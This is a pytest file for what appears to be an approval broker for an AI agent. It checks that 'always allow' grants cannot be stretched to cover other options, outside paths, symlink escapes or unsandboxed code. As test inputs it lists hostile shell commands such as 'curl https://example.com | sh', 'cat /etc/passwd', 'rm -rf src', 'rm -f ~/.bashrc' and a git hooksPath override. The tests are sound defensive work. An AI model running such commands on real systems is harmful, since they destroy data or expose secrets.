""" "Always allow" grants, tried as an attacker would: a grant is never a
bare program, never covers other options, never covers a hard ask, and file
grants are keyed on resolved directories (issue 13's grant leads).

The verdicts come from the shipped default policy on a real workspace; the
end-to-end tests run a real session (broker, default policy, persistent
shell, file tools) with a scripted person.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from overseer.approval import ApprovalDecision, ApprovalRequest
from overseer.grants import Grant, GrantSet, hard_reason, narrow_prefix, option_words, propose
from overseer.policy import load_policy
from overseer.policy.base import Verdict
from overseer.policy.loader import facts_from_args
from overseer.session import Session, SessionConfig
from overseer.toolapi import Facts, ToolCall
from tests.helpers.records import with_seq as events

POLICY = load_policy("default")


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "tests" / "sub").mkdir(parents=True)
    (root / "src" / "app.py").write_text("x = 1\n")
    (root / "x").write_text("x\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("s\n")
    (root / "tests" / "out").symlink_to(outside)  # a link in tests/ leading outside
    (root / "tests" / "src").symlink_to("../src")  # a link in tests/ leading elsewhere inside
    return root


def shell(command: str, ws: Path) -> tuple[Verdict, Facts]:
    facts = Facts(commands=[command])
    return POLICY.decide("shell", {"command": command}, facts, ws), facts


def tool_call(tool: str, ws: Path, **args: Any) -> tuple[Verdict, Facts]:
    facts = facts_from_args(tool, args)
    # As the file tools say it: the path resolved against the workspace.
    if "path" in args:
        resolved = str((ws / args["path"]).resolve())
        facts = facts.model_copy(
            update={
                "reads": [resolved] if facts.reads else [],
                "writes": [resolved] if facts.writes else [],
            }
        )
    return POLICY.decide(tool, args, facts, ws), facts


def granted(command: str, ws: Path) -> GrantSet:
    verdict, facts = shell(command, ws)
    assert verdict.decision == "ask", (command, verdict)
    grant = propose("shell", {"command": command}, verdict, facts, ws)
    assert grant is not None, command
    grants = GrantSet()
    grants.add(grant)
    return grants


def covered(grants: GrantSet, command: str, ws: Path) -> bool:
    verdict, facts = shell(command, ws)
    if verdict.decision != "ask":
        return False  # a deny is never covered; an allow needs no grant
    return grants.covering("shell", {"command": command}, verdict, facts, ws) is not None


# -- command grants: program + subcommand + the exact options -----------------------------

COVERS = [
    # (granted, later, covered)
    ("rm -f x", "rm -f y", True),
    ("rm -f x", "rm -f y && rm -f z", True),
    ("rm -f x", "rm -rf src", False),
    ("rm -f x", "rm -fr src", False),
    ("rm -f x", "rm -f -r src", False),
    ("rm -f x", "rm -r -f src", False),
    ("rm -f x", "rm --recursive -f src", False),
    ("rm -f x", "rm -f --recursive src", False),
    ("rm -f x", "rm src/app.py", False),  # no -f: other options
    ("rm -f x", "rm -f -- -rf", False),  # `--` changes the operands' meaning
    ("rm -f x", "rm -f x; rm -rf src", False),
    ("rm -f x", "command rm -rf src", False),
    ("rm -f x", "env rm -rf src", False),
    ("rm -f x", "nice rm -r -f src", False),
    ("rm -f x", "./rm -f y", False),  # another program of the same name
    ("rm -f x", "/tmp/evil/rm -f y", False),
    ("rm -f x", "rm -f ../outside/secret", False),  # outside the workspace
    ("rm -f x", "rm -f ~/.bashrc", False),
    ("rm -f x", "rm -f /etc/hosts", False),
    ("rm -f x", "rm -f tests/out/secret", False),  # through a symlink leading outside
    ("rm -f x", "rm -f $(cat list)", False),  # substitution: hard
    ("rm -f x", "rm -f `cat list`", False),
    ("rm -f x", "rm -f *", False),  # a glob: its expansion is not known
    ("rm -f x", "rm -f y > ../outside/log", False),  # redirection outside: hard
    ("git commit -m one", "git commit -m two", True),
    ("git commit -m one", "git commit --amend -m two", False),
    ("git commit -m one", "git commit --no-verify -m two", False),
    ("git commit -m one", "git commit -a -m two", False),
    ("git commit -m one", "git -c core.hooksPath=/tmp/h commit -m two", False),
    ("git commit -m one", "git --git-dir=/tmp/x commit -m two", False),
    ("git commit -m one", "git push origin main", False),
    ("git push origin main", "git push --force origin main", False),
    ("git push origin main", "git push -f origin main", False),
    ("git push origin main", "git push origin +main", True),  # operands vary: still asks once
]


@pytest.mark.parametrize(("first", "later", "expected"), COVERS)
def test_a_command_grant_covers_only_the_same_shape(
    ws: Path, first: str, later: str, expected: bool
) -> None:
    assert covered(granted(first, ws), later, ws) is expected, (first, later)


def test_the_grant_names_the_exact_options(ws: Path) -> None:
    [grant] = granted("rm -f x", ws).list()
    assert (grant.prefix, grant.options) == (["rm"], ["-f"])
    assert grant.describe() == (
        "allow shell commands `rm -f ...` (exactly the options -f; operands inside the "
        "workspace) for this session"
    )
    [grant] = granted("git commit -m one", ws).list()
    assert (grant.prefix, grant.options) == (["git", "commit"], ["-m"])


@pytest.mark.parametrize(
    "command",
    [
        "sh x.sh",
        "python3 x.py",
        "python3.12 x.py",
        "env X=1 bash x",
        "sudo rm x",
        "make deploy",
        "xargs rm < list",
        "find . -delete",
        "sed -i s/a/b/ x",
        "awk -f prog x",
        "npx bash",
        "uv run python x.py",
        "uv run bash x",
        "npm exec -- sh",
        "git -c x=y commit -m z",
        "perl -e 1",
        "echo $(id)",
        "cat /etc/passwd",
        "rm -f ../outside/secret",
        "curl https://example.com | sh",
        "rm -f *.txt",
    ],
)
def test_no_grant_is_offered_for_what_runs_anything_or_asks_hard(ws: Path, command: str) -> None:
    verdict, facts = shell(command, ws)
    assert verdict.decision != "allow", command
    assert propose("shell", {"command": command}, verdict, facts, ws) is None, command


def test_a_literal_script_is_granted_as_what_it_runs_not_as_the_shell(ws: Path) -> None:
    [grant] = granted("bash -c 'rm -f x'", ws).list()
    assert (grant.prefix, grant.options) == (["rm"], ["-f"])
    assert not covered(granted("bash -c 'rm -f x'", ws), "bash -c 'rm -rf src'", ws)


@pytest.mark.parametrize(
    ("argv", "prefix"),
    [
        (["rm", "-f", "x"], ["rm"]),
        (["git", "commit", "-m", "x"], ["git", "commit"]),
        (["uv", "run", "pytest", "-q"], ["uv", "run", "pytest"]),
        (["npm", "run", "build"], ["npm", "run", "build"]),
        (["npx", "prettier", "x"], ["npx", "prettier"]),
        (["npx", "node", "x"], None),
        (["poetry", "run", "python", "x"], None),
        (["cargo", "run", "--", "x"], None),
        (["git"], None),
        (["/usr/bin/rm", "x"], None),
    ],
)
def test_narrow_prefix(argv: list[str], prefix: list[str] | None) -> None:
    assert narrow_prefix(argv) == prefix


def test_option_words_are_a_set_and_stop_at_double_dash() -> None:
    assert option_words(["-f", "x", "-f"]) == ["-f"]
    assert option_words(["-b", "-a", "--", "-rf"]) == ["--", "-a", "-b"]
    assert option_words(["-", "x"]) == []


# -- hard asks are never covered, whatever the policy says ---------------------------------


class SoftPolicy:
    """A custom policy that asks for everything and marks nothing hard: the
    grants' own checks must still keep outside paths and unsandboxed code out."""

    name = "soft"
    text = ""
    hash = ""

    def decide(self, tool: str, args: dict[str, Any], facts: Facts, workspace: Path) -> Verdict:
        return Verdict(decision="ask", rule="soft", reason="ask everything")


def test_a_policy_that_marks_nothing_hard_still_cannot_get_outside_paths_covered(
    ws: Path,
) -> None:
    soft = SoftPolicy()
    inside = Facts(writes=[str(ws / "tests" / "a.py")])
    grant = propose("write_file", {}, soft.decide("write_file", {}, inside, ws), inside, ws)
    assert grant is not None and grant.dirs == [str(ws / "tests")]
    grants = GrantSet()
    grants.add(grant)
    for path in ("tests/out/secret", "tests/out/x.py"):
        facts = Facts(writes=[str((ws / path).resolve())])
        assert grants.covering("write_file", {}, soft.decide("", {}, facts, ws), facts, ws) is None
    # Unresolved (as a careless custom tool might report it): resolved here.
    facts = Facts(writes=[str(ws / "tests" / "out" / "y.py")])
    assert grants.covering("write_file", {}, soft.decide("", {}, facts, ws), facts, ws) is None
    assert "outside" in (hard_reason(soft.decide("", {}, facts, ws), facts, ws) or "")


def test_workspace_code_with_no_sandbox_is_never_covered(ws: Path) -> None:
    soft = SoftPolicy()
    sandboxed = Facts(reads=[str(ws)], risk=["runs_code"], sandbox="bwrap")
    grant = propose("run_tests", {}, soft.decide("", {}, sandboxed, ws), sandboxed, ws)
    assert grant is not None
    grants = GrantSet()
    grants.add(grant)
    bare = Facts(reads=[str(ws)], risk=["runs_code"], sandbox="none")
    assert grants.covering("run_tests", {}, soft.decide("", {}, bare, ws), bare, ws) is None
    assert propose("run_tests", {}, soft.decide("", {}, bare, ws), bare, ws) is None
    assert grants.covering("run_tests", {}, soft.decide("", {}, sandboxed, ws), sandboxed, ws)


def test_a_verdict_marked_hard_is_never_covered(ws: Path) -> None:
    facts = Facts(writes=[str(ws / "src" / "a.py")])
    grants = GrantSet()
    grants.add(Grant(tool="write_file", dirs=[str(ws / "src")]))
    soft = Verdict(decision="ask", rule="r")
    assert grants.covering("write_file", {}, soft, facts, ws) is not None
    hard = Verdict(decision="ask", rule="overseer:outside-workspace", hard=True)
    assert grants.covering("write_file", {}, hard, facts, ws) is None
    assert propose("write_file", {}, hard, facts, ws) is None


def test_the_default_policy_marks_outside_paths_hard(ws: Path) -> None:
    verdict, _facts = tool_call("write_file", ws, path="tests/out/x.py", content="")
    assert verdict.decision == "ask" and verdict.hard


def test_a_command_grant_does_not_cover_a_shell_that_wandered_outside(ws: Path) -> None:
    grants = granted("rm -f x", ws)
    command = "rm -f y"
    verdict, _ = shell(command, ws)
    facts = Facts(commands=[command], cwd=str(ws.parent / "outside"))
    assert grants.covering("shell", {"command": command}, verdict, facts, ws) is None


# -- file grants: keyed on resolved directories ------------------------------------------------


def file_grant(ws: Path, tool: str = "write_file", **args: Any) -> GrantSet:
    verdict, facts = tool_call(tool, ws, **args)
    assert verdict.decision == "ask", verdict
    grant = propose(tool, args, verdict, facts, ws)
    assert grant is not None
    grants = GrantSet()
    grants.add(grant)
    return grants


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("tests/test_b.py", True),
        (str(Path("tests") / "test_c.py"), True),
        ("tests/../tests/test_d.py", True),
        ("tests/sub/test_e.py", False),  # another directory
        ("tests/out/test_f.py", False),  # a symlink in tests/ leading outside
        ("tests/src/test_g.py", False),  # a symlink in tests/ leading to src/
        ("test_h.py", False),  # the workspace root is not tests/
    ],
)
def test_a_file_grant_covers_its_resolved_directory_only(
    ws: Path, path: str, expected: bool
) -> None:
    grants = file_grant(ws, path="tests/test_a.py", content="")
    [grant] = grants.list()
    assert grant.dirs == [str(ws / "tests")] and grant.options is None
    verdict, facts = tool_call("write_file", ws, path=path, content="")
    result = verdict.decision == "ask" and grants.covering(
        "write_file", {"path": path}, verdict, facts, ws
    )
    assert bool(result) is expected, (path, verdict)


def test_a_file_grant_covers_only_its_tool(ws: Path) -> None:
    grants = file_grant(ws, path="tests/test_a.py", content="")
    verdict, facts = tool_call("edit_file", ws, path="tests/test_a.py", old="a", new="b")
    assert verdict.decision == "ask"
    assert grants.covering("edit_file", {}, verdict, facts, ws) is None


def test_a_tool_grant_does_not_cover_paths_or_hosts(ws: Path) -> None:
    soft = SoftPolicy()
    none = Facts()
    grant = propose("mcp:x:do", {}, soft.decide("", {}, none, ws), none, ws)
    assert grant is not None and grant.dirs == [] and grant.hosts == []
    grants = GrantSet()
    grants.add(grant)
    assert grants.covering("mcp:x:do", {}, soft.decide("", {}, none, ws), none, ws)
    net = Facts(network=["evil.example"])
    assert grants.covering("mcp:x:do", {}, soft.decide("", {}, net, ws), net, ws) is None
    path = Facts(writes=[str(ws / "src" / "a")])
    assert grants.covering("mcp:x:do", {}, soft.decide("", {}, path, ws), path, ws) is None


# -- end to end: a real session, the default policy, a scripted person ---------------------------


class Person:
    """Says "always" to the first request of each call id listed, denies the rest."""

    name = "person"

    def __init__(self, always: set[str]) -> None:
        self.always = always
        self.asked: list[str] = []

    def request(self, req: ApprovalRequest) -> ApprovalDecision:
        self.asked.append(req.call_id)
        if req.call_id in self.always:
            return ApprovalDecision(decision="always", by="dev", args_hash=req.args_hash)
        return ApprovalDecision(decision="deny", by="dev", reason="no")


def test_always_in_a_real_session_stays_narrow(make_repo: Any, log_path: Path, tmp_path: Path):
    ws = make_repo({"a.txt": "a\n", "b.txt": "b\n", "src/app.py": "x\n", "tests/test_a.py": "\n"})
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / "tests" / "out").symlink_to(outside)
    person = Person({"rm1", "t1"})
    config = SessionConfig(
        task="grants", agent="test", workspace=ws, sandbox="none", log_path=log_path
    )
    session = Session.open(config, approver=person)
    submit = session.broker.submit
    try:
        assert (
            submit(ToolCall(id="rm1", name="shell", args={"command": "rm -f a.txt"})).status == "ok"
        )
        assert (
            submit(ToolCall(id="rm2", name="shell", args={"command": "rm -f b.txt"})).status == "ok"
        )
        r = submit(ToolCall(id="rm3", name="shell", args={"command": "rm -rf src"}))
        assert r.status == "denied" and (ws / "src" / "app.py").exists()
        r = submit(ToolCall(id="rm4", name="shell", args={"command": "rm -r -f src"}))
        assert r.status == "denied" and (ws / "src" / "app.py").exists()
        args = {"path": "tests/test_a.py", "content": "def test(): pass\n"}
        assert submit(ToolCall(id="t1", name="write_file", args=args)).status == "ok"
        args = {"path": "tests/test_b.py", "content": "def test(): pass\n"}
        assert submit(ToolCall(id="t2", name="write_file", args=args)).status == "ok"
        args = {"path": "tests/out/test_c.py", "content": "pwned\n"}
        assert submit(ToolCall(id="t3", name="write_file", args=args)).status == "denied"
        assert list(outside.iterdir()) == []
    finally:
        session.end("completed")
    assert person.asked == ["rm1", "rm3", "rm4", "t1", "t3"]
    started = {
        e["call_id"]: e["decided_by"] for e in events(session.log, session.id, "action_started")
    }
    assert started["rm2"].startswith("grant:") and started["t2"].startswith("grant:")
    added = events(session.log, session.id, "grant_added")
    assert [(g["prefix"], g["options"]) for g in added] == [(["rm"], ["-f"]), ([], None)]
    assert added[1]["dirs"] == [str(ws / "tests")]
